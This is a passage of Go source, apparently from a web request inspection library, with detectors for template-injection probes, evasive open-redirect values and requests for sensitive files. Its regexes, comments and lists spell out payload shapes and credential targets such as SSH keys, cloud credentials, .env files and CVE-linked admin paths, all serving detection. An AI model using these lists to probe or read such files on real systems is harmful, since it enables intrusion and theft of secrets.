			i = digits(i + 1)
			rel++
		case c >= '0' && c <= '9':
			i = digits(i)
			num++
		case c == '$' || c == '^' || c == '*':
			i++
			words++
		default:
			return false
		}
		events++
		for i < len(s) && s[i] == ':' {
			i++
			if i >= len(s) {
				return false
			}
			switch c := s[i]; {
			case c >= '0' && c <= '9':
				i = digits(i)
				if i < len(s) && s[i] == '-' {
					i = digits(i + 1)
				}
			case c == '$' || c == '^' || c == '*' || c == '-' || c == '&' || strings.IndexByte("htrepqx", c) >= 0 && (i+1 == len(s) || !isWordByte(s[i+1])):
				i++
			case c == 's' || c == 'g' && i+1 < len(s) && s[i+1] == 's':
				if c == 'g' {
					i++
				}
				// s/old/new/: the delimiter is the byte after s.
				if i+1 >= len(s) {
					return false
				}
				d := s[i+1]
				j := strings.IndexByte(s[i+2:], d)
				if d == ' ' || j < 0 {
					return false
				}
				k := strings.IndexByte(s[i+3+j:], d)
				if k < 0 {
					i = len(s)
				} else {
					i += 4 + j + k
				}
			default:
				return false
			}
			desig++
		}
	}
	return rel > 0 || desig > 0 || events >= 2 && num+words > 0
}

// jqueryCall: "$(document)", "$(this)", "$(function" are jQuery, not
// command substitution.
func jqueryCall(s string) bool {
	i := strings.Index(s, "$(")
	if i < 0 {
		return false
	}
	r := strings.TrimPrefix(s[i+2:], " ")
	return strings.HasPrefix(r, "document") || strings.HasPrefix(r, "this") || strings.HasPrefix(r, "window") || strings.HasPrefix(r, "function")
}

// wholeQuoted: the value is one quoted string ("whoami" is a word in
// quotes, not an evasion).
func wholeQuoted(n string) bool {
	return len(n) >= 2 && (n[0] == '"' || n[0] == '\'') && n[len(n)-1] == n[0] && strings.IndexByte(n[1:len(n)-1], n[0]) < 0
}

// Template expressions of the common engines that probe or reach the
// engine without arithmetic: Jinja2/Twig objects ({{self}}, {{config}},
// {{_self}}, Flask's globals alone: {{request}}, {{url_for}}, {{lipsum}},
// request.environ, Django's request.META with every header and
// environment variable), a method called on a string literal ({{'a'.upper()}}), Smarty ({$smarty.version}, {php}), Freemarker/Velocity/
// Thymeleaf/Spring EL (${T(…)}, #{…}, *{…}, [[${…}]], $!{…}), ERB and JSP
// (<%= … %>), the Handlebars helper of the known RCE chain ({{#with "s"}},
// or {{#with}} then a constructor; {{#with product}} is a template),
// Razor (@(…), a code block declaring a variable: @{ var x = …; }), ${{ followed by markup or a digit (the polyglot
// ${{<%[%'"}}%\.; CI workflow expressions, ${{ secrets.TOKEN }},
// ${{ !cancelled() }}, are content), and expressions with a space where a
// form '+' was (${7 7} from ${7+7}).
var reSSTIProbe = regexp.MustCompile(`\{\{[-~]? ?(?:self|_self|config|dump|debug)\b[^}]{0,80}\}\}|\{\{ ?(?:request|url_for|get_flashed_messages|lipsum|cycler|joiner) ?\}\}|\{\{ ?request ?\. ?(?:environ|application|meta)\b|\{\{ ?['"][^'"{}]{0,20}['"] ?\. ?[a-z_]\w* ?\(|\{\{#with ["']|\{\{#blockhelpermissing\b|\{\{#with\b[^}]{0,80}\}\}.{0,200}constructor|\{\$smarty\.|\{(?:php|fetch|math|eval)\b[^}]{0,80}\}|\{%[-+]? ?(?:debug|import|php)\b[^%]{0,120}%\}|[$#*@]\{ ?(?:\d+ +\d+|\d+ ?[*+/%-] ?\d+|[a-z_][\w.]*\.(?:getclass|class|forname|getruntime|exec|invoke|getenv|getproperty|version|product)\b|t ?\(|new |request\b|session\b|application\b|param\.|header\.|cookie\.|pagecontext\b|facescontext\b|\d+ ?\. ?\d+|"[^"]{0,40}"\.|'[^']{0,40}'\.)|\[\[ ?[$*#]\{|\$!\{|<%=? ?[^%]{1,120}%>|\{\{ ?['"]?\w*['"]? ?\* ?['"]\d+['"] ?\}\}|\$\{\{ ?[^a-z_ !('"]|#\{ ?[a-z_]\w*(?: ?\(|\.)|@\( ?\d+ ?[*+/-] ?\d+ ?\)|@\{ ?(?:var|string|int|dynamic|object) [a-z_]\w* ?=|@\( ?\d+ \d+ ?\)|\{\{ ?\d+ +\d+ ?\}\}`)

// sstiProbeWords gate reSSTIProbe.
var sstiProbeWords = []string{"{{", "{$smarty", "{php", "{fetch", "{math", "{eval", "{%", "${", "#{", "*{", "@{", "[[", "$!{", "<%", "@("}

// detectSSTIGrammar flags template expressions that are not arithmetic.
func detectSSTIGrammar(e *emitter, v *value) {
	if v.cls&sstiClasses == 0 {
		return
	}
	n := v.norm
	if v.kw&kwSSTIProbe != 0 && reSSTIProbe.MatchString(n) {
		e.hit(rSSTIProbe)
	}
}

func hasAny(s string, subs []string) bool {
	for _, sub := range subs {
		if strings.Contains(s, sub) {
			return true
		}
	}
	return false
}

// Open redirect: a parameter whose name says it holds a redirect target,
// and a value that leaves the site by a form no same-site link takes:
// protocol-relative (//host), backslash forms (/\host, \\host),
// a scheme with a missing or doubled slash (https:/host, https:\\host),
// whitespace or control characters before the URL, user-info tricks
// (https://site@evil). A plain absolute or protocol-relative URL is not
// judged: OAuth, payment and single sign-on flows send cross-site return
// URLs every day, and the value layer does not know the site's host.
var redirectNames = []string{"redirect", "redir", "return", "returnto", "return_to", "returnurl", "return_url", "next", "url", "goto", "go", "go_to", "dest", "destination", "continue", "target", "rurl", "forward", "callback", "to", "out", "view", "login_url", "logout", "checkout_url", "success_url", "fail_url", "u", "r", "q_url", "jump", "nav", "back", "backurl", "back_url",
	"link", "relaystate", "service", "landing", "landing_page", "exit", "wreply", "ru"}

var redirectNameSet = func() map[string]bool {
	m := map[string]bool{}
	for _, w := range redirectNames {
		m[w] = true
	}
	return m
}()

// navigationNames are the redirect parameters that name a page of the
// site's own flow: where the browser goes after signing in or out, after
// a form or a consent step. Parameters that hand the browser, or a
// server, to another party by design are not among them: OAuth's
// redirect_uri, CAS's service, WS-Federation's wreply, url, callback.
var navigationNames = map[string]bool{
	"next": true, "next_url": true, "nexturl": true, "return": true, "returnto": true, "return_to": true, "returnurl": true, "return_url": true,
	"returnpath": true, "return_path": true, "redirect": true, "redirectto": true, "redirect_to": true, "redirecturl": true, "redirect_url": true,
	"redir": true, "continue": true, "continue_url": true, "goto": true, "go_to": true, "dest": true, "destination": true, "relaystate": true,
	"backurl": true, "back_url": true, "after_login": true, "afterlogin": true, "after_login_url": true, "login_redirect": true,
}

// navigationParam: name (any case, '-' or '_') is one of navigationNames.
func navigationParam(name string) bool {
	if name == "" || len(name) > 40 {
		return false
	}
	var buf [40]byte
	return navigationNames[bstr(foldParamName(buf[:0], name))]
}

// foldParamName appends name to dst in lower case with '-' as '_', the
// form the parameter-name sets are written in (returnUrl, Return-URL and
// return_url are one name).
func foldParamName(dst []byte, name string) []byte {
	for i := 0; i < len(name); i++ {
		c := name[i]
		if c >= 'A' && c <= 'Z' {
			c |= 0x20
		}
		if c == '-' {
			c = '_'
		}
		dst = append(dst, c)
	}
	return dst
}

// redirectParam reports whether a parameter name is redirect-like.
func redirectParam(name string) bool {
	if name == "" || len(name) > 40 {
		return false
	}
	var buf [40]byte
	ln := bstr(foldParamName(buf[:0], name))
	if redirectNameSet[ln] {
		return true
	}
	if strings.Contains(ln, "redirect") || strings.Contains(ln, "return") {
		return true
	}
	// successUrl, cancel_uri, afterLoginUrl, logout-url: a URL the flow
	// sends the browser to once a step is over.
	stem, ok := strings.CutSuffix(ln, "url")
	if !ok {
		stem, ok = strings.CutSuffix(ln, "uri")
	}
	if !ok {
		return false
	}
	for _, w := range [...]string{"next", "back", "continue", "success", "cancel", "fail", "error", "done", "finish", "complete", "login", "logout", "signin", "signout", "exit", "landing", "dest", "goto", "after"} {
		if strings.Contains(stem, w) {
			return true
		}
	}
	return false
}

// redirectDotSegments: a redirect target whose path climbs out of the
// directory it names (https://app.example.com/oauth/cb/../../out?url=…):
// a check that the target starts with a registered callback passes, and
// the browser resolves the dot segments to another page of the site,
// often one that redirects again. No link a flow writes has them.
func redirectDotSegments(d string) bool {
	p := d
	if i := strings.IndexAny(p, "?#"); i >= 0 {
		p = p[:i]
	}
	return strings.Contains(p, "/../") || strings.HasSuffix(p, "/..") || strings.Contains(p, "/..\\") ||
		containsFold(p, "/..%2f") || containsFold(p, "/%2e%2e") || containsFold(p, "/.%2e") || containsFold(p, "/%2e.")
}

// specialScheme: s (up to "//") starts with a scheme whose authority is a
// host to connect to.
func specialScheme(s string) bool {
	for _, p := range [...]string{"http:", "https:", "ws:", "wss:", "ftp:", "gopher:", "dict:"} {
		if s == p {
			return true
		}
	}
	return false
}

// redirectClasses: a URL, a path or a user part; a value with none of these
// classes gives detectRedirect nothing to find, and runDetectors does not
// call it.
const redirectClasses = cSlash | cBackslash | cColon | cAt | cHigh // cHigh: fullwidth solidi

// detectRedirect flags evasive redirect targets in redirect-like
// parameters.
func detectRedirect(e *emitter, v *value) {
	if v.kind != KindQueryValue && v.kind != KindBodyValue {
		return
	}
	if v.cls&redirectClasses == 0 || !redirectShape(v.dec) || !redirectParam(v.name) {
		return
	}
	d := v.dec
	if redirectDotSegments(d) && (navigationParam(v.name) || containsFold(v.name, "redirect") || containsFold(v.name, "callback") || containsFold(v.name, "return")) {
		// Not on a bare url=, which link previews and fetchers take as
		// written (https://example.com/docs/../page).
		e.hit(rRedirectOpen)
		return
	}
	if v.raw != d && v.cls&cPercent == 0 {
		// Still percent-encoded after the request layer decoded it once:
		// the application decodes again (%2F%2Fevil, %5Cevil).
		r := strings.ToLower(strings.TrimLeft(v.raw, " "))
		if strings.HasPrefix(r, "%2f%2f") || strings.HasPrefix(r, "%2f/") || strings.HasPrefix(r, "/%2f") || strings.HasPrefix(r, "%5c") || strings.HasPrefix(r, "/%5c") || strings.HasPrefix(r, "%252f") {
			e.hit(rRedirectOpen)
			return
		}
	}
	if v.cls&(cCtrl|cNL) != 0 || strings.IndexByte(d, '\t') >= 0 {
		// Browsers drop tabs and line breaks anywhere in a URL: one
		// inside the scheme or the slashes is evasion.
		head := d[:min(len(d), 12)]
		if strings.IndexAny(strings.TrimLeft(head, " \t\r\n"), "\t\r\n") >= 0 {
			s := strings.Map(func(r rune) rune {
				if r == '\t' || r == '\r' || r == '\n' {
					return -1
				}
				return r
			}, d)
			if t := strings.ToLower(s); strings.HasPrefix(t, "//") || strings.HasPrefix(t, "/\\") || strings.HasPrefix(t, "http") || strings.HasPrefix(t, "javascript:") {
				e.hit(rRedirectOpen)
				return
			}
		}
	}
	if r := strings.TrimLeft(v.raw, " \t"); strings.HasPrefix(r, "／") || strings.HasPrefix(r, "＼") {
		// ／／evil.example: fullwidth solidi, which NFKC folds to "//"
		// after a check for "/" has passed them.
		e.hit(rRedirectOpen)
		return
	}
	// Whitespace and controls that browsers strip before a URL.
	t := strings.TrimLeft(d, " \t\r\n\x00\x0b\x0c")
	lead := len(t) < len(d)
	lt := strings.ToLower(t)
	if redirectAuthority(lt, v.raw) || numericRedirectHost(lt) {
		e.hit(rRedirectOpen)
		return
	}
	switch {
	case lead && (strings.HasPrefix(lt, "//") || strings.HasPrefix(lt, "\\")),
		strings.HasPrefix(lt, "///"), strings.HasPrefix(lt, "//%2f"), strings.HasPrefix(lt, "//%5c"), strings.HasPrefix(lt, "//\\"),
		strings.HasPrefix(lt, "/\\"), strings.HasPrefix(lt, "\\"), strings.HasPrefix(lt, "\\/"),
		strings.HasPrefix(lt, "/%09/"), strings.HasPrefix(lt, "/%2f"), strings.HasPrefix(lt, "/%5c"),
		strings.HasPrefix(lt, "javascript:") && !inertJSURI(lt), strings.HasPrefix(lt, "data:text/html"), strings.HasPrefix(lt, "vbscript:"):
		e.hit(rRedirectOpen)
		return
	}
	if s, ok := cutScheme(lt); ok {
		switch {
		case lead:
			e.hit(rRedirectOpen)
		case !strings.HasPrefix(s, "//"), strings.HasPrefix(s, "///"), strings.HasPrefix(s, "/\\"), strings.HasPrefix(s, "\\"):
			// https:evil.com, https:/evil.com, https:///evil.com
			e.hit(rRedirectOpen)
		default:
			host := s[2:]
			if i := strings.IndexAny(host, "/?#"); i >= 0 {
				host = host[:i]
			}
			if strings.IndexByte(host, '@') >= 0 || strings.IndexByte(host, '\\') >= 0 || encodedUserinfo(v.raw) {
				e.hit(rRedirectOpen)
			}
		}
	}
}

// numericRedirectHost: a protocol-relative or http(s) target whose host is
// an IPv4 address spelled as one number, in hex or in octal
// (//3627734734, https://0x7f000001/): a spelling only filter evasion
// uses, since no site links to its own or a partner's address so.
func numericRedirectHost(lt string) bool {
	s, _ := cutScheme(lt)
	s, ok := strings.CutPrefix(s, "//")
	if !ok || s == "" || s[0] < '0' || s[0] > '9' {
		return false
	}
	end := 0
	for end < len(s) && !authorityEnd[s[end]] {
		end++
	}
	h := s[:end]
	if i := strings.LastIndexByte(h, ':'); i >= 0 {
		h = h[:i]
	}
	_, obfuscated, ok := parseHostIP(h)
	return ok && obfuscated
}

// redirectAuthority judges the shapes of a redirect target that name
// another host by what parsers disagree on (lt is the decoded value,
// lower case, leading blanks removed; raw as sent):
//   - a protocol-relative URL (//host) with user-info or a backslash in
//     its authority (//site@evil, //evil\@site); a plain //host is not
//     judged, as plain https://host is not;
//   - a path whose dot segments resolve to "//host" (/%2e%2e//evil);
//   - a leading '@' before a dotted host: appended to the site's origin,
//     the site becomes the user-info (https://site@evil);
//   - an authority with control characters, percent signs left after
//     decoding, or the look-alikes that fold to '.', '/' or letters
//     (evil。com), or followed at once by "#." "?." "#@" (evil#.site: a
//     suffix check passes, the browser goes to evil).
func redirectAuthority(lt, raw string) bool {
	if strings.HasPrefix(lt, "@") {
		h := lt[1:]
		if i := strings.IndexAny(h, "/?#:"); i >= 0 {
			h = h[:i]
		}
		return strings.IndexByte(h, '.') > 0 && strings.IndexByte(h, '@') < 0 && hostLike(h)
	}
	if strings.HasPrefix(lt, "/.") {
		r := lt
		for {
			if x, ok := strings.CutPrefix(r, "/./"); ok {
				r = "/" + x
			} else if x, ok := strings.CutPrefix(r, "/../"); ok {
				r = "/" + x
			} else {
				break
			}
		}
		if r != lt && (strings.HasPrefix(r, "//") || strings.HasPrefix(r, "/\\")) {
			return true
		}
	}
	rest := lt
	if r, ok := cutScheme(lt); ok {
		rest = r
	}
	if !strings.HasPrefix(rest, "//") {
		return false
	}
	auth := rest[2:]
	end := strings.IndexAny(auth, "/?#")
	if end >= 0 {
		auth = auth[:end]
	}
	if auth == "" {
		return false
	}
	if rest == lt && (strings.IndexByte(auth, '@') >= 0 || strings.IndexByte(auth, '\\') >= 0) {
		return true
	}
	if end >= 0 && end+3 < len(rest) {
		if c, n := rest[2+end], rest[3+end]; (c == '#' || c == '?') && (n == '.' || n == '@') {
			return true
		}
	}
	if oddAuthority(raw) {
		return true
	}
	return false
}

// oddAuthority: the authority of raw (after "//") holds a control
// character, a '%' (hosts are not percent-encoded in a link), or a
// Unicode look-alike of '.', '/', '\\' or of ASCII letters and digits
// (full-width, circled), which URL parsers fold and filters do not.
func oddAuthority(raw string) bool {
	i := strings.Index(raw, "//")
	if i < 0 || i > 8 {
		return false
	}
	a := raw[i+2:]
	for _, r := range a {
		switch {
		case r == '/' || r == '?' || r == '#' || r == '\\':
			return false
		case r < 0x20 || r == 0x7f || r == '%':
			return true
		case r == 0x3002 || r == 0xff61 || r == 0xff0e || r == 0x2215 || r == 0x2044 || r == 0x2216 || r == 0xfe68 || r >= 0xff01 && r <= 0xff5e || r >= 0x2460 && r <= 0x24ff:
			return true
		}
	}
	return false
}

// encodedUserinfo: the authority of a URL, as sent, holds an '@' after a
// percent-encoded byte (https://evil.example%2f@site.example): a validator
// that reads the text after '@' as the host sees the site, the browser
// that decodes the delimiter goes to evil.example.
func encodedUserinfo(raw string) bool {
	_, rest, ok := strings.Cut(raw, "//")
	if !ok {
		return false
	}
	if i := strings.IndexAny(rest, "/?#\\"); i >= 0 {
		rest = rest[:i]
	}
	at := strings.LastIndexByte(rest, '@')
	return at > 0 && strings.IndexByte(rest[:at], '%') >= 0
}

// redirectShape: the value starts (after blanks) like a URL or a path,
// the only shapes detectRedirect judges.
func redirectShape(d string) bool {
	t := strings.TrimLeft(d, " \t\r\n\x00\x0b\x0c")
	if t == "" {
		return false
	}
	switch t[0] | 0x20 {
	case '/', '\\', 'h', 'j', 'd', 'v', '@' | 0x20:
		return true
	}
	return t[0] == '\\' || t[0] == 0xef // 0xef: fullwidth forms (／)
}

// cutScheme splits "http:" or "https:" off a URL.
func cutScheme(s string) (string, bool) {
	if r, ok := strings.CutPrefix(s, "https:"); ok {
		return r, true
	}
	if r, ok := strings.CutPrefix(s, "http:"); ok {
		return r, true
	}
	return s, false
}

// Sensitive files and administrative surfaces requested by path: version
// control metadata, environment and credential files, backups and
// database dumps, Java archive internals, and the debugging and admin
// endpoints of common stacks. The list is curated by what each file gives
// an attacker (source, secrets, a shell), not by what scanners send; the
// documentation lists it with an exclusion recipe.
var (
	// sensitiveNames: a path segment with one of these names.
	sensitiveNames = wordSet(
		// Version control: the whole source tree can be rebuilt from them.
		".git .gitconfig .git-credentials .svn .hg .bzr _darcs .fossil " +
			// Secrets and credentials.
			".htpasswd .htaccess .aws .ssh .npmrc .pypirc .netrc .pgpass .my.cnf .dockercfg .docker .kube .bash_history .zsh_history " +
			".mysql_history .psql_history id_rsa id_dsa id_ecdsa id_ed25519 .boto .s3cfg .terraform terraform.tfstate .vault-token " +
			"credentials.json secrets.yml secrets.yaml .secrets .ds_store web.config wp-config.php localsettings.php .idea .vscode " +
			// Application configuration that holds database passwords and
			// signing keys: Rails, ASP.NET Core, Django, Compose, FrontPage.
			"database.yml appsettings.json settings.py docker-compose.yml docker-compose.yaml _vti_pvt " +
			// Spring and Rails configuration and keys, cluster and cloud
			// credentials, the saved logins of FTP and SFTP clients.
			"application.properties application.yml application.yaml master.key credentials.yml.enc secrets.json kubeconfig terraform.tfvars my.cnf " +
			"sftp-config.json .ftpconfig .remote-sync.json filezilla.xml sitemanager.xml ws_ftp.ini winscp.ini error_log " +
			// AI coding agents' configuration: MCP server definitions with
			// their tokens, agent rules and chat histories.
			".cursor .cursorrules .cursorignore .aider .aider.conf.yml .roo .roomodes .cline .clinerules .kiro .windsurf .windsurfrules .junie " +
			".plandex .rovodev .continue .codeium .claude .gemini .aiignore mcp.json .mcp.json .history " +
			// Java archive internals: deployment descriptors and classes.
			"web-inf meta-inf app_data sidekiq " +
			// Debugging and administration surfaces.
			"server-status server-info phpinfo.php info.php jolokia heapdump jmx-console web-console phpmyadmin pma adminer.php adminer " +
			"elmah.axd trace.axd _profiler app_dev.php _debugbar eval-stdin.php hnap1 boaform goform setup.cgi " +
			// WebLogic, JBoss, Tomcat connectors, H2, Axis2, the debug
			// toolbars of Django, Symfony and Laravel, Jenkins' script
			// console, Cisco ASA's portal, GPON routers.
			"wls-wsat _async bea_wls_deployment_internal bea_wls_internal uddiexplorer console.portal loginform.jsp admin-console jkstatus jkmanager " +
			"h2-console axis2-admin __debug__ _wdt __clockwork scripttext cscoe cscol cscou cscot gponform " +
			"myadmin mysqladmin dbadmin sqladmin hystrix.stream " +
			// The administration APIs of datastores published through the
			// gateway: Elasticsearch/OpenSearch cluster, node and snapshot
			// APIs, CouchDB's database list.
			"_cat _nodes _cluster _snapshot _all_dbs")
	// sensitivePairs: a segment followed by one of the listed ones
	// ("actuator/env"); "*" accepts any next segment.
	sensitivePairs = map[string][]string{
		"manager":      {"html", "text", "status"},
		"host-manager": {"*"},
		"debug":        {"pprof", "vars"},
		"telescope":    {"requests"},
		"horizon":      {"api"},
		"solr":         {"admin"},
		"jenkins":      {"script"},
		"cgi-bin":      {"php", "php5", "php-cgi", "test-cgi", "test.cgi", "printenv"},
		"vendor":       {"phpunit"},
		"wp-admin":     {"install.php", "setup-config.php"},
		"_ignition":    {"execute-solution", "health-check", "scripts", "share-report"},
		"mifs":         {"aad"},                       // Ivanti EPMM's unauthenticated API (CVE-2023-35078)
		"vmodlcontext": {"loadvmodlpackages"},         // vCenter's vSAN plug-in (CVE-2021-21985)
		"pcidss":       {"report"},                    // Citrix ADC (CVE-2023-6548 chain)
		"setup":        {"setupadministrator.action"}, // Confluence (CVE-2023-22515)
		"invoker":      {"jmxinvokerservlet"},
		"cvs":          {"entries", "root"},
		"druid":        {"index.html", "login.html", "websession.html", "sql.html", "datasource.html", "weburi.html", "webapp.html", "spring.html", "basic.json"},
		"nacos":        {"v1"},
		"mgmt":         {"tm", "shared"},
		"jsonws":       {"invoke"},
		"webtools":     {"control"},
		"cmdb":         {"*"},
		"rails":        {"info"},
		"manage":       {"script", "env", "heapdump", "configprops"},
		// Symfony 2-3 kept its database password and secret in
		// app/config/parameters.yml (an OpenAPI spec's
		// components/parameters.yaml is not under config/).
		"config":  {"parameters.yml", "parameters.yaml"},
		"etc":     {"local.xml", "env.php"},
		"default": {"settings.php"},
	}
	// springRoot: the endpoints Spring Boot 1 served at the root, which
	// count as the whole path only (/env, /configprops).
	springRoot = wordSet("env configprops autoconfig threaddump beans")
	// rootManifests: a project's dependency manifests, lock files and
	// build and CI definitions. At the root of the site (/composer.lock,
	// /.gitlab-ci.yml) they are the source tree published by mistake, and
	// they name every dependency's exact version; deeper in a path they
	// are what code hosts and package registries serve, and pass.
	rootManifests = wordSet("composer.json composer.lock package.json package-lock.json npm-shrinkwrap.json yarn.lock pnpm-lock.yaml " +
		"gemfile gemfile.lock pipfile pipfile.lock poetry.lock pyproject.toml requirements.txt cargo.lock go.mod go.sum " +
		"dockerfile makefile gruntfile.js gulpfile.js webpack.config.js .travis.yml .gitlab-ci.yml bitbucket-pipelines.yml jenkinsfile " +
		".gitignore .dockerignore .editorconfig phpunit.xml")
	// At the end of the path: backup and dump extensions, editor swap
	// files.
	backupSuffixes = []string{".bak", ".backup", ".old", ".orig", ".save", ".swp", ".swo", ".tmp", "~", ".sql", ".sql.gz", ".sql.bz2", ".sql.zip", ".sql.tar.gz", ".dump", ".mdb", ".sqlite", ".sqlite3", ".db", ".mdf", ".ldf", ".kdbx", ".pem", ".key", ".p12", ".pfx", ".jks", ".keystore", ".log", ".rdb", ".tfvars", ".ovpn", ".ppk"}
	// Archives count when their base name says backup or site copy.
	archiveSuffixes = []string{".zip", ".tar", ".tar.gz", ".tgz", ".gz", ".rar", ".7z", ".tar.bz2", ".bz2", ".war", ".jar"}
	archiveBases    = []string{"backup", "backups", "bak", "db", "database", "dump", "site", "www", "wwwroot", "htdocs", "public_html", "webroot", "sql", "mysql", "old", "archive", "web", "src", "source", "sources", "code", "html", "public", "webapp", "website", "wordpress", "httpdocs", "inetpub"}
	// dbBases: names that say a database file is the application's own.
	dbBases = []string{"data", "app", "main", "prod", "production", "users", "admin", "store", "local", "dev"}
	// sourceExts are files a server runs or reads its settings from; one
	// more extension after them (index.php.1, config.php.txt) is a copy
	// that the server now serves as text.
	sourceExts = wordSet("php php3 php4 php5 php7 phtml inc asp aspx asa jsp jspx cfm py rb pl cgi conf config cnf ini env yml yaml properties sql sh htaccess htpasswd")
	copyExts   = wordSet("copy bk bkp bck bac back txt zip gz tgz tar rar 7z tmp temp")
	// tlds are the last labels of the host names a site copy is named
	// after (example.com.zip).
	tlds = wordSet("com net org io info biz us uk de fr ru cn jp br in eu nl it es ca au pl ch se local corp lan xyz")
)

// sensitiveSegment: a segment named in sensitiveNames, or an environment
// file (.env, .env.local, .env_prod).
func sensitiveSegment(seg string) bool {
	if sensitiveNames[seg] {
		return true
	}
	if r, ok := strings.CutPrefix(seg, ".env"); ok && (r == "" || r[0] == '.' || r[0] == '_' || r[0] == '-') {
		return true
	}
	return false
}

// phpMagicMethods are PHP's magic methods, which no HTTP method override
// names.
var phpMagicMethods = wordSet("__construct __destruct __call __callstatic __get __set __invoke __tostring __wakeup __unserialize __set_state __clone")

// uploadDirs name directories of uploaded files.
var uploadDirs = wordSet("uploads upload userfiles user_uploads useruploads attachments avatars")

// uploadScriptPath: n (a decoded, lower-case path) requests a server
// script below a directory of uploaded files.
func uploadScriptPath(n string) bool {
	if i := strings.IndexAny(n, "?#"); i >= 0 {
		n = n[:i]
	}
	base := n[strings.LastIndexByte(n, '/')+1:]
	if j := strings.IndexByte(base, ';'); j >= 0 {
		base = base[:j]
	}
	dot := strings.LastIndexByte(base, '.')
	if dot <= 0 || !slices.Contains(scriptExtensions, base[dot:]) || base[dot:] == ".htaccess" {
		return false
	}
	dir := n[:len(n)-len(base)]
	for rest := dir; rest != ""; {
		seg, tail, _ := strings.Cut(rest, "/")
		rest = tail
		if uploadDirs[seg] {
			return true
		}
	}
	return false
}

// staticSuffixParam: a segment of path n (lower case) that ends in a
// path parameter named like a static file or a JSP: ";.jsp", ";.css"
// (a parameter is dropped by the servlet container, not by the filter
// that exempts such files).
func staticSuffixParam(n string) bool {
	if i := strings.IndexAny(n, "?#"); i >= 0 {
		n = n[:i]
	}
	for i := strings.Index(n, ";."); i > 0; {
		ext := n[i+2:]
		if j := strings.IndexByte(ext, '/'); j >= 0 {
			ext = ext[:j]
		}
		switch ext {
		case "jsp", "jspx", "css", "js", "png", "jpg", "jpeg", "gif", "ico", "svg", "html", "htm", "woff", "woff2", "map", "txt":
			return true
		}
		k := strings.Index(n[i+2:], ";.")
		if k < 0 {
			break
		}
		i += 2 + k
	}
	return false
}

// detectSensitivePath flags requests for sensitive files and admin
// surfaces, and Tomcat/Jetty path-parameter tricks (..;/, /;/) that
// reach past a prefix rule.
func detectSensitivePath(e *emitter, v *value) {
	if v.kind != KindPath {
		return
	}
	n := v.norm
	// A path as the application sees it: decoded, lower-case, with the
	// Tomcat path parameters (";jsessionid=…", "..;") removed.
	p := n
	if strings.IndexByte(n, ';') >= 0 {
		if strings.Contains(n, "..;/") || strings.Contains(n, "/;/") || strings.Contains(n, ";/../") {
			e.hit(rTraversalDotDot)
		}
		b := v.sc.aux[:0]
		for i := 0; i < len(n); i++ {
			if n[i] == ';' {
				for i < len(n) && n[i] != '/' {
					i++
				}
				if i == len(n) {
					break
				}
			}
			b = append(b, n[i])
		}
		v.sc.aux = b
		p = bstr(b)
	}
	if i := strings.IndexAny(p, "?#"); i >= 0 {
		p = p[:i]
	}
	if strings.HasPrefix(p, "/bin/") && (strings.HasSuffix(p, ".dll") || strings.HasSuffix(p, ".pdb")) {
		// An ASP.NET application's compiled code and its symbols.
		e.hit(rPathSensitive)
		return
	}
	// Walk the segments; "." segments are skipped, as servers do.
	prev := ""
	base := ""
	for rest := p; rest != ""; {
		var seg string
		if i := strings.IndexByte(rest, '/'); i >= 0 {
			seg, rest = rest[:i], rest[i+1:]
		} else {
			seg, rest = rest, ""
		}
		if seg == "" || seg == "." {
			continue
		}
		if seg != ".." && (seg[len(seg)-1] == '.' || seg[len(seg)-1] == ' ' || seg[0] == ' ') {
			// Windows drops trailing dots and spaces: WEB-INF./ is
			// WEB-INF/. (A '+' reads as a space here: +CSCOE+.)
			if t := strings.TrimRight(strings.TrimLeft(seg, " "), ". "); t != "" {
				seg = t
			}
		}
		if sensitiveSegment(seg) || sensitivePrefix(seg) {
			e.hit(rPathSensitive)
			return
		}
		if seg[0] == '.' && len(seg) > 1 && seg != ".." && seg != ".well-known" && rest != "" {
			// A hidden directory (tool and editor state, agent
			// configuration): weak alone, strong with a settings or
			// secrets file in it.
			last := rest[strings.LastIndexByte(rest, '/')+1:]
			if secretishName(last) {
				e.hit(rPathSensitive)
				return
			}
			e.hit(rPathHidden)
		}
		if sensitiveAfter(prev, seg) || (prev == "logs" || prev == "log") && strings.HasSuffix(seg, ".log") {
			// An application's log files too.
			e.hit(rPathSensitive)
			return
		}
		prev, base = seg, seg
	}
	if base == "" || strings.HasSuffix(p, "/") {
		return
	}
	if (springRoot[base] || rootManifests[base]) && strings.Trim(p, "/") == base {
		e.hit(rPathSensitive)
		return
	}
	hidden := base[0] == '.' && len(base) > 1 && base != ".well-known"
	if strings.IndexByte(base, '.') < 0 && base[len(base)-1] != '~' {
		return // no extension: neither a backup nor an archive
	}
	if sourceCopy(base) {
		e.hit(rPathSensitive)
		return
	}
	for _, s := range backupSuffixes {
		if strings.HasSuffix(base, s) && len(base) > len(s) {
			if s == ".log" || s == ".db" || s == ".key" || s == ".pem" || s == ".tmp" {
				// Also ordinary downloads: only by a telling name.
				stem := strings.TrimSuffix(base, s)
				if !archiveBase(stem) && !(s == ".db" && slices.Contains(dbBases, stem)) && !strings.Contains(base, "error") && !strings.Contains(base, "debug") && !strings.Contains(base, "access") && !strings.Contains(base, "private") && !strings.Contains(base, "privkey") && !strings.Contains(base, "server") {
					break
				}
			}
			e.hit(rPathSensitive)
			return
		}
	}
	for _, s := range archiveSuffixes {
		if strings.HasSuffix(base, s) {
			if b := strings.TrimSuffix(base, s); archiveBase(b) || hostNamed(b) {
				e.hit(rPathSensitive)
				return
			}
			break
		}
	}
	if hidden {
		// Any other hidden file: a weak signal.
		e.hit(rPathHidden)
	}
}

// sensitiveAfter: seg, after the segment prev, names a sensitive endpoint:
// every Spring actuator endpoint but the two meant for load balancers, or
// a pair of sensitivePairs.
func sensitiveAfter(prev, seg string) bool {
	if prev == "actuator" && seg != "" && seg != "health" && seg != "info" {
		return true
	}
	return pairFollows(sensitivePairs, prev, seg)
}

// pairFollows: seg is one of the segments pairs lists after prev ("*":
// any).
func pairFollows(pairs map[string][]string, prev, seg string) bool {
	for _, next := range pairs[prev] {
		if next == "*" || next == seg {
			return true
		}
	}
	return false
}

// sensitivePrefix: a segment named for a family of admin and debug
// scripts whatever its version or suffix (phpinfo2.php, php_info.php,
// adminer-4.8.1.php, phpMyAdmin-5.2.1), or for an ASP.NET environment's
// settings (appsettings.Production.json).
func sensitivePrefix(seg string) bool {
	switch seg[0] {
	case 'p':
		return (strings.HasPrefix(seg, "phpinfo") || strings.HasPrefix(seg, "php_info") || strings.HasPrefix(seg, "php-info")) && strings.HasSuffix(seg, ".php") ||
			strings.HasPrefix(seg, "phpmyadmin")
	case 'a':
